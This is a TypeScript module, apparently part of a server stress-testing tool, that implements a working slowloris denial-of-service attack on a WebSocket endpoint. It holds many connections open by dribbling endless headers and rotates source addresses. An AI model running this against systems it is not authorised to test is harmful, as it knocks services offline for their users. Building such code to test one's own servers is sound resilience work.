import { connect } from 'node:net';
import type { Attack } from './attack.ts';
import type { Attacker } from './attacker.ts';
import { count } from './sightings.ts';

const statusLine = /^HTTP\/1\.1 (\d+)/;

/** Asks for upgrades a byte at a time and never comes to an end (slowloris): each holds a connection. */
export const slowRequests: Attack = async (attacker, { connections, everyMs }) => {
  const place = async (): Promise<void> => {
    while (!attacker.stopped.aborted) {
      await askSlowly(attacker, everyMs);
      await attacker.pause(everyMs);
    }
  };
  await Promise.all(Array.from({ length: connections }, place));
};

/** Resolves when the server, or we, have ended it. */
function askSlowly(attacker: Attacker, everyMs: number): Promise<void> {
  const { target, seen, stopped } = attacker;
  const { hostname, port, host } = new URL(target.webSocketUrl);
  const bytes = bytesOfRequest(host);
  const localAddress = attacker.nextAddress();
  seen.tried += 1;
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    let status: string | undefined;
    let isConnected = false;
    const writing = setInterval(() => {
      if (isConnected) socket.write(bytes.next().value);
    }, everyMs);
    const end = (): void => {
      socket.destroy();
    };
    stopped.addEventListener('abort', end);
    socket
      .on('connect', () => {
        isConnected = true;
        seen.opened += 1;
      })
      .on('data', (data) => (status ??= statusLine.exec(data.toString('latin1'))?.[1]))
      .on('error', (error: NodeJS.ErrnoException) => (status ??= error.code))
      .on('close', () => {
        clearInterval(writing);
        stopped.removeEventListener('abort', end);
        if (!stopped.aborted) count(isConnected ? seen.closed : seen.refused, status ?? 'no answer');
        resolve();
      });
    if (stopped.aborted) end();
  });
}

/** An upgrade, then one header after the other. */
function* bytesOfRequest(host: string): Generator<string, never> {
  yield* `GET /ws HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n`;
  for (let header = 0; ; header += 1) yield* `X-${header}: 0\r\n`;
}
